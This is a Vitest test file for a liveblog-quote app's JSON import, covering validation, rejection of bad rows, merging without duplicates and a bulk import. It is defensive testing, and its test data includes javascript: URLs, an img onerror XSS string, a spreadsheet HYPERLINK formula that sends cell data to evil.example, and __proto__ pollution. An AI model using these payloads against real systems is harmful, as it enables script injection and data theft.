// Import of a JSON export: file-level refusals (not JSON, not ours, wrong version), row-level
// validation with reasons (missing fields, hostile strings), merging without duplicates, a round
// trip that restores the library exactly, and 10,000 rows.
import { describe, expect, it } from 'vitest';
import { ImportError, importJson, parseImport } from '../../../lib/export/import';
import { buildExport, EXPORT_VERSION, toJson, type ExportQuote, type LensExport } from '../../../lib/export/json';
import { loadLibrary } from '../../../lib/store/library';
import { BLOGS, BUDGET, dump, emptyDb, QUOTES, sampleDb, STARRED, UKRAINE } from './sample';

const NOW = Date.UTC(2024, 0, 3, 8);
const sample = (): LensExport => buildExport({ blogs: BLOGS, quotes: QUOTES, starred: STARRED }, NOW);
const withQuotes = (quotes: unknown[]) => ({ ...sample(), blogs: BLOGS, starred: [], quotes });
const good = (over: Record<string, unknown> = {}): Record<string, unknown> => ({
  id: 'q-imported-1', text: 'Imported words', speaker: 'Ann Example', blog: UKRAINE, site: 'guardian', entry: 'block-1',
  entryTime: '2024-01-02T10:00:00Z', permalink: `${UKRAINE}#block-1`, savedAt: NOW, ...over,
});

describe('import: the file as a whole', () => {
  it.each([
    ['not JSON', '{"format": "liveblog-lens",', /not JSON/],
    ['a list', '[]', /Not a Liveblog Lens export/],
    ['another format', JSON.stringify({ format: 'other-app', version: 1, quotes: [] }), /Not a Liveblog Lens export/],
    ['no version', JSON.stringify({ format: 'liveblog-lens', quotes: [] }), /no valid version/],
    ['a version string', JSON.stringify({ format: 'liveblog-lens', version: '1', quotes: [] }), /no valid version/],
    ['version 0', JSON.stringify({ format: 'liveblog-lens', version: 0, quotes: [] }), /no valid version/],
    ['a newer version', JSON.stringify({ format: 'liveblog-lens', version: EXPORT_VERSION + 1, quotes: [] }), /newer Liveblog Lens \(format version 2\)/],
    ['quotes not a list', JSON.stringify({ format: 'liveblog-lens', version: 1, quotes: {} }), /"quotes" is not a list/],
  ])('refuses %s', (_name, text, reason) => {
    expect(() => parseImport(text)).toThrow(ImportError);
    expect(() => parseImport(text)).toThrow(reason);
  });

  it('refuses a wrong version without writing anything', async () => {
    const db = emptyDb();
    await expect(importJson(db, JSON.stringify({ ...sample(), version: 99 }))).rejects.toThrow(ImportError);
    expect(await db.quotes.count()).toBe(0);
    expect(await db.blogs.count()).toBe(0);
  });
});

describe('import: rows', () => {
  it('rejects rows with missing or wrong fields, saying which and why, and keeps the rest', () => {
    const { id: _id, ...noId } = good();
    const { savedAt: _t, ...noTime } = good({ id: 'q-imported-3' });
    const parsed = parseImport(withQuotes([good(), noId, noTime, good({ id: 'q-imported-4', text: '' }), good({ id: 'short' }), 'a string', null]));
    expect(parsed.quotes.map((q) => q.id)).toEqual(['q-imported-1']);
    expect(parsed.rejected).toEqual([
      { kind: 'quote', index: 1, reason: 'quotes[1].id: expected a string' },
      { kind: 'quote', index: 2, reason: 'quotes[2].savedAt: expected an integer' },
      { kind: 'quote', index: 3, reason: 'quotes[3].text: empty' },
      { kind: 'quote', index: 4, reason: 'quotes[4].id: has an unexpected form' },
      { kind: 'quote', index: 5, reason: 'quotes[5]: expected an object' },
      { kind: 'quote', index: 6, reason: 'quotes[6]: expected an object' },
    ]);
  });

  it('rejects hostile values: script URLs, control characters, oversize text, odd sites', () => {
    const parsed = parseImport(
      withQuotes([
        good({ id: 'q-hostile-01', permalink: 'javascript:alert(1)' }),
        good({ id: 'q-hostile-02', blog: 'javascript:alert(document.domain)' }),
        good({ id: 'q-hostile-03', text: 'bell\u0007' }),
        good({ id: 'q-hostile-04', speaker: 'two\nlines' }),
        good({ id: 'q-hostile-05', text: 'x'.repeat(10_001) }),
        good({ id: 'q-hostile-06', site: '<script>' }),
        good({ id: 'q-hostile-07', savedAt: 1e20 }),
      ]),
    );
    expect(parsed.quotes).toEqual([]);
    expect(parsed.rejected.map((r) => r.reason)).toEqual([
      'quotes[0].permalink: not an http(s) URL',
      'quotes[1].blog: not an http(s) URL',
      'quotes[2].text: contains control characters',
      'quotes[3].speaker: contains a line break',
      'quotes[4].text: longer than 10000 characters',
      'quotes[5].site: has an unexpected form',
      'quotes[6].savedAt: out of range [946684800000, 7258118400000]',
    ]);
  });

  it('keeps hostile-looking text as plain text (it is only ever rendered as text)', () => {
    const parsed = parseImport(
      withQuotes([good({ text: '<img src=x onerror=alert(1)>', speaker: '=HYPERLINK("http://evil.example/?"&A1)', note: '@SUM(A1:A9)' })]),
    );
    expect(parsed.rejected).toEqual([]);
    expect(parsed.quotes[0]).toMatchObject({ text: '<img src=x onerror=alert(1)>', speaker: '=HYPERLINK("http://evil.example/?"&A1)' });
  });

  it('drops unknown and prototype-polluting fields', () => {
    const text = `{"format":"liveblog-lens","version":1,"__proto__":{"polluted":true},"quotes":[${JSON.stringify(good()).replace(/}$/, ',"__proto__":{"polluted":true},"search":"forged","speakerKey":"x","extra":1}')}]}`;
    const parsed = parseImport(text);
    expect(parsed.quotes).toHaveLength(1);
    expect(Object.keys(parsed.quotes[0]!).sort()).toEqual(['blog', 'entry', 'entryTime', 'id', 'permalink', 'savedAt', 'site', 'speaker', 'text']);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('validates blogs and starred entries too', () => {
    const parsed = parseImport({
      format: 'liveblog-lens',
      version: 1,
      blogs: [{ ...BLOGS[0], title: 'a\nb' }],
      starred: [{ ...STARRED[0], starred: undefined }],
    });
    expect(parsed.rejected).toEqual([
      { kind: 'blog', index: 0, reason: 'blogs[0].title: contains a line break' },
      { kind: 'starred', index: 0, reason: 'starred[0].starred: expected an integer' },
    ]);
  });
});

describe('import: merging', () => {
  it('restores an exported library exactly into an empty one', async () => {
    const source = await sampleDb();
    const file = toJson(buildExport({ ...(await loadLibrary(source)) }, NOW));
    const target = emptyDb('lens-import-target');
    const summary = await importJson(target, file);
    expect(summary).toEqual({ added: { quotes: 6, starred: 2, blogs: 2 }, skipped: { quotes: 0, starred: 0 }, rejected: [] });
    const a = await dump(source);
    const b = await dump(target);
    expect(b.blogs).toEqual(a.blogs);
    expect(b.quotes).toEqual(a.quotes);
    // Starred entries come back as they were; the entries only quoted from are not part of an export.
    expect(b.entries).toEqual(a.entries.filter((e) => e.starred !== undefined));
    // The times as the blogs printed them come back too.
    expect(b.quotes.find((q) => q.id === 'q-starmer-1')?.entryTimeLabel).toBe('10.15 GMT');
    expect(b.entries.find((e) => e.id === 'block-200')?.timeLabel).toBe('07.30 GMT');
  });

  it('takes files without printed times (older exports), and refuses a printed time that is not one line of text', () => {
    const file = toJson(buildExport({ blogs: BLOGS, quotes: QUOTES, starred: STARRED }, NOW));
    const older = JSON.parse(file) as { quotes: Record<string, unknown>[]; starred: Record<string, unknown>[] };
    for (const q of older.quotes) delete q.entryTimeLabel;
    for (const e of older.starred) delete e.timeLabel;
    expect(parseImport(JSON.stringify(older)).rejected).toEqual([]);
    older.quotes[0]!.entryTimeLabel = '10.15\nGMT';
    older.starred[0]!.timeLabel = 'x'.repeat(101);
    older.quotes[1]!.entryTimeLabel = 1015;
    expect(parseImport(JSON.stringify(older)).rejected.map((r) => r.reason.split(':')[0])).toEqual([
      'quotes[0].entryTimeLabel', 'quotes[1].entryTimeLabel', 'starred[0].timeLabel',
    ]);
  });

  it('adds nothing twice: same id, or same text, speaker and blog, or twice in the file', async () => {
    const db = await sampleDb();
    const again = await importJson(db, toJson(sample()));
    expect(again.added).toEqual({ quotes: 0, starred: 0, blogs: 0 });
    expect(again.skipped).toEqual({ quotes: 6, starred: 2 });

    const q = QUOTES[0]!;
    const sameWords: ExportQuote = { ...good(), id: 'q-other-id-1', text: `  ${q.text.toUpperCase()} `, speaker: 'keir starmer', blog: q.blog } as ExportQuote;
    const twice = good({ id: 'q-twice-0001' });
    const summary = await importJson(db, JSON.stringify(withQuotes([sameWords, twice, twice, { ...twice, id: 'q-twice-0002' }])));
    expect(summary.added.quotes).toBe(1);
    expect(summary.skipped.quotes).toBe(3);
    expect(await db.quotes.count()).toBe(QUOTES.length + 1);
  });

  it('creates a bare blog row for a quote whose blog neither side knows, and re-keys blog URLs', async () => {
    const db = emptyDb();
    const blog = 'https://www.bbc.co.uk/news/live/world-999?utm_source=twitter#post-1';
    const summary = await importJson(db, JSON.stringify({ format: 'liveblog-lens', version: 1, quotes: [good({ blog, site: 'bbc' })] }));
    expect(summary.added).toEqual({ quotes: 1, starred: 0, blogs: 1 });
    const key = 'https://www.bbc.co.uk/news/live/world-999';
    expect(await db.blogs.get(key)).toMatchObject({ key, title: '', site: 'bbc' });
    expect((await db.quotes.get('q-imported-1'))!.blog).toBe(key);
  });

  it('stars a known entry with its original star time, keeping its read time', async () => {
    const db = emptyDb();
    await db.blogs.bulkPut(BLOGS);
    const { starred: _s, read: _r, ...plain } = STARRED[1]!;
    await db.entries.put({ ...plain, read: NOW });
    const summary = await importJson(db, toJson(sample()));
    expect(summary.added.starred).toBe(2);
    expect(await db.entries.get([BUDGET, 'post-3'])).toMatchObject({ starred: STARRED[1]!.starred, read: NOW });
  });

  it('imports 10,000 quotes, rejecting the bad ones, and imports nothing twice', async () => {
    const quotes: unknown[] = Array.from({ length: 10_000 }, (_, i) =>
      good({ id: `q-bulk-${String(i).padStart(6, '0')}`, text: `Quote number ${i} about the budget`, savedAt: NOW - i * 1000 }),
    );
    quotes[17] = good({ id: 'q-bulk-bad-17', permalink: 'javascript:void(0)' });
    quotes[9999] = { ...(quotes[9999] as object), text: 42 };
    const text = JSON.stringify({ format: 'liveblog-lens', version: 1, exportedAt: new Date(NOW).toISOString(), blogs: BLOGS, quotes, starred: [] });
    const db = emptyDb();
    const summary = await importJson(db, text);
    expect(summary.added.quotes).toBe(9_998);
    expect(summary.rejected.map((r) => r.index)).toEqual([17, 9999]);
    expect(await db.quotes.count()).toBe(9_998);
    // Importing the same file again adds nothing.
    const again = await importJson(db, text);
    expect(again.added.quotes).toBe(0);
    expect(again.skipped.quotes).toBe(9_998);
  }, 60_000);
});
